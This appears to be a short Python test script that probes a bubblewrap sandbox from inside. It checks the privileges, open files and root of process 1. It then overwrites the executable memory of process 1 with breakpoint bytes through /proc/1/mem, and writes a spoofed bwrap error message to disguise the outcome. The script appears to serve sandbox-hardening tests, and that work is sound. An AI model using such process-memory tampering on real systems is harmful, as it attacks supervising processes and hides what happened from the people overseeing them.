# Process 1 is bubblewrap and belongs to the same user, so that its memory can be written to. It
# has no privilege that the program has not, so that taking it over gains nothing.
import os
import time

from attempt import in_own_processes, privileges

BREAKPOINT = b"\xcc" if os.uname().machine == "x86_64" else b"\0\0\x20\xd4"
if not in_own_processes():
    print("ESCAPED the host's process 1 would have been meant")
    raise SystemExit(0)
print(privileges(1))
print("files", *sorted({os.readlink(f"/proc/1/fd/{name}").split(":")[0] for name in os.listdir("/proc/1/fd")}))
print("root" if os.path.samefile("/proc/1/root", "/") else "ESCAPED", flush=True)
# So that its end looks like a sandbox which this machine does not let be built.
os.write(2, b"bwrap: Can't mount proc on /newroot/proc: Operation not permitted\n")
memory = os.open("/proc/1/mem", os.O_RDWR)
for line in open("/proc/1/maps"):
    if "r-xp" in line and "[" not in line:
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        os.pwrite(memory, BREAKPOINT * ((end - start) // len(BREAKPOINT)), start)
if os.fork() == 0:  # an orphan, which process 1 wakes up for
    if os.fork() == 0:
        os._exit(0)
    os._exit(0)
os.wait()
time.sleep(3)
